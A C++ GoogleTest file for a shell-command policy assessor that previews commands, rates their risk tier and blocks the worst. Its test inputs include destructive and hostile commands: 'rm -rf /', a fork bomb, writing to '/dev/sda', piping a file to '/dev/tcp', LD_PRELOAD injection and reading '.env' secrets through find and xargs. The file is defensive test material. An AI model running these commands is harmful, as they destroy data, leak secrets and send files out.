// SPDX-License-Identifier: Apache-2.0
// Shell text judged as a whole: what it would do to which files from which folder, and what cannot
// be told before it runs.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "policy/assess/preview.h"
#include "tests/policy/assessor_fixture.h"

namespace guard::policy {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;

// The facts of one folder, by those of the world.
class FolderFacts : public Facts {
 public:
  FolderFacts(FakeFacts& world, std::string folder) : world_(world), folder_(std::move(folder)) {}

  Object object(const std::string& operand, LastLink last) override {
    return world_.object(path_of(operand), last);
  }
  Effect walk(const std::vector<std::string>& operands, Extent extent,
              const EachObject& each) override {
    std::vector<std::string> paths;
    for (const std::string& operand : operands) paths.push_back(path_of(operand));
    return world_.walk(paths, extent, each);
  }
  bool from_wildcard(const std::vector<std::string>& operands) override {
    return world_.from_wildcard(operands);
  }
  bool is_list(const std::vector<std::string>& operands) override {
    return world_.is_list(operands);
  }
  std::uint64_t free_bytes(const std::string& operand) override {
    return world_.free_bytes(path_of(operand));
  }
  const std::string& home() const override { return world_.home(); }
  const std::vector<std::string>& workspace() const override { return world_.workspace(); }
  const std::vector<std::string>& git_folders() const override { return world_.git_folders(); }
  Raising raising() const override { return world_.raising(); }
  Changeable changeable(const std::string& operand) override {
    return world_.changeable(path_of(operand));
  }

 private:
  [[nodiscard]] std::string path_of(const std::string& operand) const {
    return operand.starts_with('/') ? operand : folder_ + "/" + operand;
  }
  FakeFacts& world_;
  std::string folder_;
};

class FakeWorld : public ShellWorld {
 public:
  explicit FakeWorld(FakeFacts& facts) : facts_(facts) {}

  std::unique_ptr<Facts> facts_in(const std::string& folder) override {
    folders_.push_back(folder);
    return std::make_unique<FolderFacts>(facts_, folder);
  }
  std::vector<std::string> expand(const std::string& pattern, const std::string&) override {
    return pattern == "*.log" ? std::vector<std::string>{"a.log", "b.log"}
                              : std::vector<std::string>();
  }
  void find_image(Action& action) override {
    if (action.argv[0].find('/') == std::string::npos) action.exe = "/usr/bin/" + action.argv[0];
  }
  [[nodiscard]] const std::vector<std::string>& folders() const { return folders_; }

 private:
  FakeFacts& facts_;
  std::vector<std::string> folders_;
};

// The worst of the acts, with the categories of everything that would have to be asked.
Assessment worst_of(std::vector<JudgedAct> acts) {
  Assessment worst;
  std::vector<Category> asked;
  for (auto& act : acts) {
    if (act.assessment.tier >= 2) {
      asked.insert(asked.end(), act.assessment.categories.begin(), act.assessment.categories.end());
    }
    if (outranks(act.assessment, worst) || worst.rule.empty()) worst = std::move(act.assessment);
  }
  for (const Category category : asked) {
    const auto end = worst.categories.end();
    if (std::find(worst.categories.begin(), end, category) == end) {
      worst.categories.push_back(category);
    }
  }
  return worst;
}

class JudgedTextTest : public AssessorTest {
 protected:
  JudgedTextTest() {
    for (const char* name : {"src/a.c", "src/b.c", "data.csv", "notes", "a.log", "b.log",
                             "/home/user/letter", "/home/user/project/sub/deep/x"})
      facts_.add(name);
    facts_.add("build/x.o", Recoverability::kBuilt);
    facts_.add("fresh", Recoverability::kBorn);
    facts_.add("/dev/sda", Recoverability::kPrecious, ObjectType::kBlockDevice);
    origin_.cwd = "/home/user/project";
    origin_.argv = {"bash", "-c", "..."};
    origin_.exe = "/usr/bin/bash";
  }
  Assessment judged(const std::string& text) { return worst_of(acts(text)); }
  std::vector<JudgedAct> acts(const std::string& text) {
    return judge_preview(preview_shell(text), origin_, *assessor_, world_);
  }
  // The words of every program that the text would start.
  std::vector<std::vector<std::string>> started(const std::string& text) {
    std::vector<std::vector<std::string>> all;
    for (const JudgedAct& act : acts(text))
      if (act.action.act == Act::kExec && !act.action.argv.empty() &&
          act.assessment.rule != "shell.unknown")
        all.push_back(act.action.argv);
    return all;
  }

  Action origin_;
  FakeWorld world_{facts_};
};

using Argv = std::vector<std::string>;

TEST_F(JudgedTextTest, TheWorstOfSeveralCommandsLeads) {
  EXPECT_EQ(judged("ls; cat notes | sort").tier, 0);
  EXPECT_EQ(judged("ls && rm data.csv || true").tier, 2);
  EXPECT_EQ(judged("rm data.csv; rm -rf src").tier, 3);
  EXPECT_TRUE(judged("echo hello; rm -rf / && ls").block);
}

TEST_F(JudgedTextTest, CategoriesOfAllThatWouldBeAskedAreNamed) {
  const Assessment worst = judged("rm -rf src; git push");
  EXPECT_THAT(worst.categories, Contains(Category::kFsDeleteOverwrite));
  EXPECT_THAT(worst.categories, Contains(Category::kGitPublish));
}

TEST_F(JudgedTextTest, ForkBombsAreBlocked) {
  EXPECT_TRUE(judged(":(){ :|:& };:").block);
  EXPECT_FALSE(judged("f() { ls; }; f").block);
}

TEST_F(JudgedTextTest, RedirectionsAreActs) {
  EXPECT_EQ(judged("echo x > data.csv").tier, 2);
  EXPECT_EQ(judged("echo x >> data.csv").tier, 2);
  EXPECT_EQ(judged("echo x > fresh").tier, 0);
  EXPECT_EQ(judged("echo x > quite-new").tier, 0);
  EXPECT_EQ(judged("sort < data.csv").tier, 0);
  EXPECT_EQ(judged("echo x > /home/user/letter").tier, 2);
  EXPECT_TRUE(judged("cat image > /dev/sda").block);
}

TEST_F(JudgedTextTest, ShellsConnectByAFilesName) {
  const auto all = acts("exec 3>/dev/tcp/example.org/443");
  const auto connect = std::ranges::find_if(
      all, [](const JudgedAct& act) { return act.action.act == Act::kConnect; });
  ASSERT_NE(connect, all.end());
  EXPECT_EQ(connect->action.destination.name, "example.org");
  EXPECT_EQ(connect->action.destination.port, 443);
  EXPECT_EQ(connect->action.destination.protocol, "tcp");
  EXPECT_GE(connect->assessment.tier, 2);
  EXPECT_EQ(judged("echo x > /dev/udp/127.0.0.1/9").tier, 0);
  EXPECT_GE(judged("cat notes > /dev/tcp/192.0.2.7/80").tier, 2);
}

TEST_F(JudgedTextTest, NamesHangFromTheFolderThatTheTextWentTo) {
  EXPECT_EQ(judged("cd sub/deep && rm x").tier, 2);
  EXPECT_THAT(world_.folders(), Contains("/home/user/project/sub/deep"));
  EXPECT_EQ(judged("cd ~ && rm letter").tier, 2);
  EXPECT_THAT(world_.folders(), Contains("/home/user"));
  EXPECT_EQ(judged("rm letter").tier, 0);  // not here
  EXPECT_TRUE(judged("cd / && rm -rf *").block || judged("cd / && rm -rf ./*").tier >= 2);
}

TEST_F(JudgedTextTest, AFolderThatIsNotKnownMakesDeletesUnknown) {
  const Assessment unknown = judged("cd \"$WHERE\" && rm -rf cache");
  EXPECT_EQ(unknown.rule, "shell.unknown");
  EXPECT_EQ(unknown.tier, 2);
  EXPECT_THAT(unknown.reason, HasSubstr("the folder"));
  EXPECT_EQ(judged("cd \"$WHERE\" && ls").tier, 0);
}

TEST_F(JudgedTextTest, WordsThatAreKnownOnlyWhenItRunsAreSaid) {
  struct Row {
    const char* text;
    const char* what;
  };
  for (const Row& row : {Row{"rm -rf \"$TARGET\"", "what rm takes or writes over: \"$TARGET\""},
                         Row{"rm -rf $(cat list)", "what rm takes or writes over"},
                         Row{"$TOOL --force", "which program this is: $TOOL"},
                         Row{"sudo $TOOL", "which program this is: $TOOL"},
                         Row{"bash -c \"$TEXT\"", "what the shell is given to run"},
                         Row{"echo x > \"$FILE\"", "what is written over: \"$FILE\""},
                         Row{"find \"$ROOT\" -delete", "what find takes or writes over"}}) {
    const Assessment found = judged(row.text);
    EXPECT_EQ(found.rule, "shell.unknown") << row.text;
    EXPECT_THAT(found.reason, HasSubstr(row.what)) << row.text;
  }
}

TEST_F(JudgedTextTest, WhatHangsOnNoUnknownWordIsNotAskedForIt) {
  for (const char* text :
       {"echo \"$NAME\"", "ls $DIR", "find \"$ROOT\" -name x", "cat < \"$FILE\"",
        "echo done >> \"$GITHUB_OUTPUT\"", "echo done >> ${GITHUB_ENV}", "\"$VENV/bin/python\" -V"})
    EXPECT_LT(judged(text).tier, 2) << text;
  // Only appending is what a CI service asks for.
  EXPECT_EQ(judged("echo done > \"$GITHUB_OUTPUT\"").rule, "shell.unknown");
}

TEST_F(JudgedTextTest, AProgramIsKnownByItsNameWhereItsFolderIsNot) {
  EXPECT_THAT(started("\"$VENV/bin/pip\" install x"), Contains(Argv{"pip", "install", "x"}));
  EXPECT_GE(judged("$ROOT/bin/rm -rf src").tier, 2);
}

TEST_F(JudgedTextTest, LiteralVariablesAndLoopsStandForTheirWords) {
  EXPECT_THAT(started("F=notes; rm $F"), Contains(Argv{"rm", "notes"}));
  EXPECT_THAT(started("F='a.log b.log'; rm $F"), Contains(Argv{"rm", "a.log", "b.log"}));
  EXPECT_THAT(started("F='a.log b.log'; rm \"$F\""), Contains(Argv{"rm", "a.log b.log"}));
  EXPECT_THAT(started("for f in notes data.csv; do rm \"$f\"; done"),
              Contains(Argv{"rm", "notes", "data.csv"}));
  EXPECT_THAT(started("for f in *.log; do rm $f; done"), Contains(Argv{"rm", "a.log", "b.log"}));
  EXPECT_TRUE(judged("T=/; rm -rf $T").block);
}

TEST_F(JudgedTextTest, EachValueIsJudgedWhereTheProgramTakesNoFiles) {
  EXPECT_THAT(started("for c in status push; do git $c; done"),
              testing::ElementsAre(Argv{"git", "status"}, Argv{"git", "push"}));
  EXPECT_EQ(judged("for c in status push; do git $c; done").rule, "git.push");
  EXPECT_THAT(started("for c in 'rm notes' 'git push'; do $c; done"),
              testing::ElementsAre(Argv{"rm", "notes"}, Argv{"git", "push"}));
}

TEST_F(JudgedTextTest, WhatMayHaveChangedIsNotTakenForWhatItWas) {
  for (const char* text : {"F=fresh; read F; rm $F", "cd sub; cd \"$D\"; echo x > data.csv",
                           "C=status; read C; git $C", "source f; rm notes",
                           "F=fresh; read F; echo x > $F", "HOME=/srv; rm -r ~/x"}) {
    EXPECT_EQ(judged(text).rule, "shell.unknown") << text;
    EXPECT_EQ(judged(text).tier, 2) << text;
  }
  EXPECT_EQ(judged("F=data.csv; echo x > $F").tier, 2);
  EXPECT_EQ(judged("F=quite-new; echo x > $F").tier, 0);
  EXPECT_EQ(judged("T=$(mktemp -d); rm -rf $T; cd $T && echo x > y").tier, 0);
  EXPECT_EQ(judged("((X = 1)); echo $X").tier, 0);
}

TEST_F(JudgedTextTest, WildcardsStandForWhatTheyMatch) {
  EXPECT_THAT(started("rm *.log"), Contains(Argv{"rm", "a.log", "b.log"}));
  EXPECT_THAT(started("rm *.nothing"), Contains(Argv{"rm", "*.nothing"}));
  EXPECT_THAT(started("rm '*.log'"), Contains(Argv{"rm", "*.log"}));
}

TEST_F(JudgedTextTest, WhatRunsElsewhereHasNoFilesHere) {
  for (const JudgedAct& act : acts("ssh host 'rm -rf src > /home/user/letter'")) {
    EXPECT_NE(act.action.act, Act::kModify);
    if (!act.action.argv.empty() && act.action.argv[0] == "rm") {
      EXPECT_FALSE(act.assessment.effect);
    }
  }
  EXPECT_TRUE(judged("ssh host 'rm -rf /'").block);
}

TEST_F(JudgedTextTest, VariablesInFrontAndByEnvBelongToTheCommand) {
  for (const char* text : {"LD_PRELOAD=/tmp/x.so ls", "env LD_PRELOAD=/tmp/x.so ls",
                           "env -i LD_PRELOAD=/tmp/x.so ls"}) {
    const auto all = acts(text);
    EXPECT_TRUE(std::ranges::any_of(all, [](const JudgedAct& act) {
      return std::ranges::find(act.action.environment_changes, "LD_PRELOAD=/tmp/x.so") !=
             act.action.environment_changes.end();
    })) << text;
    EXPECT_EQ(judged(text).tier, 2) << text;
  }
  EXPECT_EQ(judged("LANG=C sort notes").tier, 0);
}

TEST_F(JudgedTextTest, ATrailIsKeptWhereItIsAskedFor) {
  const Preview preview = preview_shell("rm data.csv");
  const auto with = judge_preview(preview, origin_, *assessor_, world_, Detail::kTrail);
  ASSERT_EQ(with.size(), 1U);
  ASSERT_TRUE(with[0].trail);
  EXPECT_FALSE(with[0].trail->findings.empty());
  EXPECT_FALSE(judge_preview(preview, origin_, *assessor_, world_)[0].trail);
}

TEST_F(JudgedTextTest, EmptyAndBrokenTextsAskNothing) {
  for (const char* text : {"", "   ", "# only a comment", "if then fi", "\"", "$("})
    EXPECT_LT(judged(text).tier, 2) << text;
}

TEST_F(JudgedTextTest, SecretsThatAreFoundOrFedToAReaderAreAskedAbout) {
  facts_.add("conf/.env");
  for (const char* text :
       {"find . -name .env -exec cat {} \\;", "find . -name '.e*' -ok base64 {} \\;",
        "find . -type f -exec cat {} +", "find . -name .env | xargs cat",
        "find . -name .env -print0 | xargs -0 head -n 3", "echo conf/.env | xargs cat",
        "echo ~/project/conf/.env | xargs cat", "echo conf/.env | parallel cat",
        "ls conf/.env | xargs cat", "fd -H .env -x cat", "fdfind -H env . -X cat"}) {
    const Assessment assessment = judged(text);
    EXPECT_EQ(assessment.tier, 2) << text;
    EXPECT_EQ(assessment.rule, "fs.read") << text;
  }
}

TEST_F(JudgedTextTest, OtherFilesThatAreFoundOrFedToAReaderAreNot) {
  facts_.add("conf/.env");
  for (const char* text : {"find . -name '*.c' -exec cat {} \\;", "find src -type f -exec cat {} +",
                           "find . -name '*.c' | xargs wc -l", "find . -name .env -exec ls {} +",
                           "find . -name .env | xargs ls", "echo src/a.c | xargs cat",
                           "fd -e c -x cat", "ls src/a.c | xargs cat", "fd env src -x cat"})
    EXPECT_LT(judged(text).tier, 2) << text;
}

TEST_F(JudgedTextTest, WhatAFeederAddsToADeleterIsNotKnown) {
  for (const char* text :
       {"ls | parallel rm -rf", "parallel -a list rm", "fd -x rm", "fd -e c --exec-batch rm -f",
        "find src | parallel shred -u", "ls | parallel 'rm -f {}'"}) {
    EXPECT_EQ(judged(text).rule, "shell.unknown") << text;
    EXPECT_EQ(judged(text).tier, 2) << text;
  }
  EXPECT_NE(judged("parallel gzip -k ::: notes").rule, "shell.unknown");
  EXPECT_NE(judged("ls | parallel echo").rule, "shell.unknown");
}

}  // namespace
}  // namespace guard::policy
